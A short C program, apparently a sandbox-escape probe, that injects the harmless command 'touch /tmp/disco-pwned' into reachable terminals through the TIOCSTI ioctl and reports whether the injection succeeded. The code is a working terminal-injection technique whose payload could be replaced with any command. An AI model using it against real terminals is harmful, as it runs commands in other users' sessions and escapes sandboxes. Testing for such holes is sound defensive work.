/* Pushes a command into whatever terminal it can reach with TIOCSTI
 * (its stdio and /dev/tty); says INJECTED for every byte that went in. */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <unistd.h>

int main(void) {
    const char *cmd = "touch /tmp/disco-pwned\n";
    int fds[4] = {0, 1, 2, -1};
    fds[3] = open("/dev/tty", O_RDWR);
    if (fds[3] < 0) fprintf(stderr, "no /dev/tty: %s\n", strerror(errno));
    int injected = 0;
    for (int i = 0; i < 4; i++) {
        if (fds[i] < 0) continue;
        for (const char *c = cmd; *c; c++) {
            if (ioctl(fds[i], TIOCSTI, c) == 0) injected++;
            else { fprintf(stderr, "TIOCSTI on fd %d: %s\n", fds[i], strerror(errno)); break; }
        }
    }
    printf(injected ? "INJECTED %d\n" : "not injected %d\n", injected);
    return 0;
}
